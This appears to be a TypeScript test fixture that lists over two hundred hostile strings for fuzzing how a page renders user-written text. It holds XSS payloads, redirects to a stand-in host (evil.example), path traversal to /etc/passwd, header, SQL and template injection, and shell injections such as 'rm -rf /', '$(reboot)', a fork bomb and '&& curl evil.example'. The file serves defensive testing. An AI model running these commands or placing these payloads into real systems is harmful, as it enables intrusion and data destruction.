/** Two hundred texts that somebody may write where a page shows what others wrote: families of attacks, always the same. */
import { sized } from './size.ts';

const script = 'alert(1)';

const families: Readonly<Record<string, readonly string[]>> = {
  elements: [
    ...[
      '<script>alert(1)</script>',
      '<ScRiPt >alert(1)</sCrIpT >',
      '<script/src=//evil.example/x>',
      '<script\n>',
      '<script',
    ],
    ...[
      '<img src=x onerror=alert(1)>',
      '<IMG/SRC=x/ONERROR=alert(1)//',
      '<svg onload=alert(1)>',
      '<svg/onload=alert`1`>',
    ],
    ...[
      '<iframe srcdoc="<script>alert(1)</script>">',
      '<object data=javascript:alert(1)>',
      '<embed src=//evil.example>',
    ],
    ...[
      '<base href=//evil.example/>',
      '<meta http-equiv=refresh content="0;url=//evil.example">',
      '<link rel=stylesheet href=//e>',
    ],
    ...[
      '<form action=//evil.example><button>Log in',
      '<input name=csrf value=1>',
      '<marquee onstart=alert(1)>',
      '<video><source onerror=1>',
    ],
    ...[
      '<details open ontoggle=alert(1)>',
      '<template shadowrootmode=open><slot>',
      '<custom-element onclick=1>',
      '<plaintext>',
      '<xmp>',
    ],
    ...[
      '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
      '<noscript><p title="</noscript><img onerror=1>">',
    ],
  ],
  'ends of elements': [
    'title',
    'textarea',
    'style',
    'script',
    'select',
    'code',
    'pre',
    'bdi',
    'td></tr></tbody></table',
    'main',
    'html',
    'svg',
  ].map((name) => `</${name}><script>${script}</script>`),
  attributes: [
    ...[
      '"><img src=x onerror=alert(1)>',
      "'><img src=x onerror=alert(1)>",
      '" onmouseover="alert(1)',
      "' onmouseover='alert(1)",
    ],
    ...[
      '" style="position:fixed;inset:0',
      '` onclick=`alert(1)',
      '" autofocus onfocus="alert(1)',
      ' onload=alert(1) x=',
    ],
    ...[
      '"/><script>',
      '">',
      "'>",
      '"',
      "'",
      '`',
      '=',
      '/>',
      '\\"><b>',
      '\\x22onclick=',
      '&quot; onclick=&quot;',
      '"\n\tonclick="',
    ],
    ...[
      '" formaction="javascript:alert(1)',
      '" srcdoc="<script>',
      '" is="x',
      '" data-live="//evil.example/',
      '" id="main',
    ],
  ],
  'comments and entities': [
    ...[
      '<!--',
      '-->',
      '<!-- --!><script>',
      '<!-->',
      '<![CDATA[<script>]]>',
      '<?xml version="1.0"?>',
      '<!DOCTYPE x [<!ENTITY y "z">]>',
    ],
    ...[
      '&lt;script&gt;',
      '&#x3c;script&#x3e;',
      '&#60;script',
      '&lt',
      '&amp;lt;',
      '&#0;',
      '&NewLine;&colon;',
      '%3Cscript%3E',
      '\\u003cscript\\u003e',
    ],
  ],
  addresses: [
    ...[
      'javascript:alert(1)',
      ' JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      'java\nscript:alert(1)',
      'javascript&colon;alert(1)',
    ],
    ...[
      '\u0001javascript:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD4=',
    ],
    ...[
      '//evil.example/',
      '/\\evil.example',
      '\\\\evil.example\\x',
      'https:evil.example',
      'https:///evil.example',
      'http://evil.example/',
    ],
    ...[
      'https://evil.example/"><svg onload=alert(1)>',
      'https://evil.example/',
      'https://user:pass@evil.example/',
      'https://evil.example@bank.example',
    ],
    ...[
      'https://xn--80ak6aa92e.example/',
      'https://еvil.example/',
      'ftp://evil.example/',
      'file:///etc/passwd',
      'blob:https://x',
      'about:blank#x',
    ],
    ...[
      '../../../../ui/logout',
      '/ui/logout',
      '..%2f..%2fui',
      '?next=//evil.example',
      '#main',
      '.',
      '..',
      '/',
      '//',
      '%00',
      '%',
      '%zz',
      '+',
      '&a=b',
      ';a',
    ],
  ],
  directions: [
    ...[
      'invoice\u202egpj.exe',
      '\u2066\u2067\u2068\u2069',
      '\u200e\u200f\u061c',
      '\u202a\u202b\u202c\u202d',
      'שלום',
      'مرحبا app:1',
      '\u202e'.repeat(300),
    ],
    ...['admin\u2069\u2066 may pull', 'a\u202eb</bdi>\u202c'],
  ],
  unseen: [
    ...[
      '\u0000',
      'a\u0000b',
      '\u0001\u0002\u0007\u0008',
      '\u001b[31mred\u001b[0m',
      '\u001b]0;title\u0007',
      '\u007f\u0085\u009b',
      'a\r\nb',
      '\n\n\n',
      '\t',
    ],
    ...[
      '\u2028\u2029',
      '\ufeff\u200b',
      'ad\u00admin',
      'a\u034fb\u115f\u1160\u3164\uffa0',
      '\u180e\u180b',
      '\u{e0041}\u{e0064}\u{e006d}',
      '\ufff9a\ufffab\ufffb',
    ],
    ...['\u00a0\u2003\u3000', '\ud800', '\udc00\ud800', 'x\ud83d', '\uffff\ufffe', '\u{10ffff}', '\ue000'],
  ],
  'what is drawn large': [
    ...[
      '👩‍👩‍👧‍👦'.repeat(40),
      '🏳️‍🌈',
      '👍🏿',
      '𝕏𝖘𝖘',
      '﷽'.repeat(30),
      '꧅'.repeat(20),
      'z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢'.repeat(20),
      `e${'\u0301'.repeat(500)}`,
    ],
    ...[
      'a'.repeat(65_536),
      '<'.repeat(16_384),
      '&'.repeat(16_384),
      '"'.repeat(16_384),
      'a b '.repeat(16_384),
      '/'.repeat(300),
      'W'.repeat(255),
      'ᠠ'.repeat(300),
    ],
    ...['\u202e<b>'.repeat(8192), '한'.repeat(1000), 'ก็็็็็็็็็็็็็็็็็็็็'.repeat(20)],
  ],
  templates: [
    ...[
      '{{7*7}}',
      '${7*7}',
      '<%= 7*7 %>',
      '#{7*7}',
      '{%raw%}',
      '[[7*7]]',
      '{{constructor.constructor("alert(1)")()}}',
      '${process.env}',
      '$&$1$`',
      '%s%d%n',
    ],
    ...[
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'prototype',
      'undefined',
      'null',
      'NaN',
      'true',
      '[object Object]',
      '0',
      '-1',
      '1e999',
    ],
  ],
  styles: [
    'x{}*{display:none}',
    '</style><script>',
    '@import "//evil.example"',
    'expression(alert(1))',
    'url(javascript:alert(1))',
    ';color:red',
    '-moz-binding:url(x)',
  ],
  commands: [
    "'; rm -rf / #",
    '$(reboot)',
    '`reboot`',
    '| sh',
    '&& curl evil.example',
    '\n:(){ :|:& };:',
    "o'neil",
    '--config=/tmp/x',
    '-u root',
    '\\',
    '!!',
  ],
  headers: [
    'x\r\nSet-Cookie: a=b',
    'x\nLocation: //evil.example',
    'x\r\n\r\n<script>',
    '%0d%0aSet-Cookie:%20a=b',
    'a: b',
    'x\u560d\u560aSet-Cookie: a=b',
    '"; Max-Age=0; Path=/',
  ],
  queries: [
    "' OR 1=1 --",
    '*',
    '**',
    '***a',
    '(a+)+$',
    '[',
    ']',
    '?',
    'sha256:',
    `sha256:${'0'.repeat(64)}`,
    'user:root',
    'group:*',
    'a\u0000user:ada',
  ],
};

const all = Object.values(families).flat();

/** One after another of each family, so that any beginning of the list has some of all. */
function interleaved(): readonly string[] {
  const rows = Object.values(families);
  const longest = Math.max(...rows.map((row) => row.length));
  return Array.from({ length: longest }, (_, at) => rows.flatMap((row) => row.slice(at, at + 1))).flat();
}

/** More than two hundred. */
export const allHostileTexts: readonly string[] = interleaved();

/** All in a full run, forty otherwise, some of every family. */
export const hostileTexts: readonly string[] = allHostileTexts.slice(0, sized(all.length, 40));

/** For reports: what is long or unseen is short and visible. */
export function brief(text: string): string {
  return JSON.stringify(text).slice(0, 60);
}
